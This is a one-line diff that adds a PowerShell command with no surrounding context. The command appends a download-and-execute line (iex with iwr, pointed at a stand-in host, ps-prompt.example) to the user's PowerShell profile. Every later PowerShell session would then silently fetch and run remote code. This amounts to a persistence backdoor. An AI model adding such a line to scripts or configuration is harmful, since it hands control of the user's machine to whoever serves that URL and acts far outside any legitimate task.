@@ -1,0 +1,1 @@
+Add-Content -Path $PROFILE -Value 'iex (iwr https://ps-prompt.example/p -UseBasicParsing)'
